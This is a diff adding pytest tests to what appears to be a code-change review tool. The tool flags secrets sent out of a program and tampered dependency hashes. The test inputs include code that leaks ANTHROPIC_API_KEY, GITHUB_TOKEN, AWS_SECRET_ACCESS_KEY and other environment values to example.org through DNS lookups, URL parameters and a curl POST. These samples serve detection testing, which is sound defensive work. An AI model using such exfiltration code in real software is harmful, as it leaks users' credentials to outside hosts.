@@ -1760,3 +1760,42 @@ CLIENT = (
 def test_a_parameter_that_nothing_reads_is_held(old: str, new: str, held: bool):
     found = effects({"calc.py": old}, {"calc.py": new})
     assert (found.get("parameter-without-effect") == "hold") == held
+
+
+SENDS = "import os\nimport socket\nimport subprocess\nimport urllib.request\n\nimport requests\n\n\ndef send(text):\n"
+
+
+@pytest.mark.parametrize(
+    ("body", "held"),
+    [
+        ("key = os.environ.get('ANTHROPIC_API_KEY', '')\nsocket.getaddrinfo(key + '.example.org', 80)", True),
+        ("host = f\"{os.environ['GITHUB_TOKEN']}.example.org\"\nname = host.lower()\nsocket.gethostbyname(name)", True),
+        ("urllib.request.urlopen(f'https://example.org/?k={os.getenv(\"SECRET\")}')", True),
+        ("requests.get('https://example.org/' + str(os.environ))", True),
+        ("subprocess.run(['curl', '-d', os.environ['AWS_SECRET_ACCESS_KEY'], 'https://example.org'])", True),
+        ("requests.get('https://example.org', headers={'x-api-key': os.environ['API_KEY']})", False),
+        ("socket.getaddrinfo(os.environ['DB_HOST'], 80)", False),
+        ("subprocess.run(['tool'], env=dict(os.environ))", False),
+        ("token = os.environ['API_TOKEN']\nrequests.post('https://example.org', json={'text': text}, headers={'authorization': token})", False),
+    ],
+)  # fmt: skip
+def test_a_secret_in_an_address_is_held(body: str, held: bool):
+    lines = "".join(f"    {line}\n" for line in body.splitlines())
+    assert (effects(BASE, {"send.py": SENDS + lines}).get("secret-leaves") == "hold") == held
+
+
+@pytest.mark.parametrize(
+    ("path", "old", "new", "held"),
+    [
+        ("requirements.txt", "a==1 --hash=sha256:{0}\n", "a==1 --hash=sha256:{1}\n", True),
+        ("requirements.txt", "a==1 \\\n    --hash=sha256:{0} \\\n    --hash=sha256:{1}\n", "a==1 \\\n    --hash=sha256:{0} \\\n    --hash=sha256:{2}\n", True),
+        ("requirements.txt", "a==1 --hash=sha256:{0}\n", "a==1\n", True),
+        ("requirements.txt", "a==1 --hash=sha256:{0}\n", "a==1 --hash=sha256:{0} --hash=sha256:{1}\n", False),
+        ("requirements.txt", "a==1 --hash=sha256:{0}\n", "a==2 --hash=sha256:{1}\n", False),
+        ("Pipfile.lock", '{{"default": {{"a": {{"version": "==1", "hashes": ["sha256:{0}"]}}}}}}', '{{"default": {{"a": {{"version": "==1", "hashes": ["sha256:{1}"]}}}}}}', True),
+    ],
+)  # fmt: skip
+def test_hashes_under_one_version_stay(path: str, old: str, new: str, held: bool):
+    digests = [c * 64 for c in "abc"]
+    found = effects({**BASE, path: old.format(*digests)}, {path: new.format(*digests)})
+    assert (found.get("lock-tampered") == "hold") == held
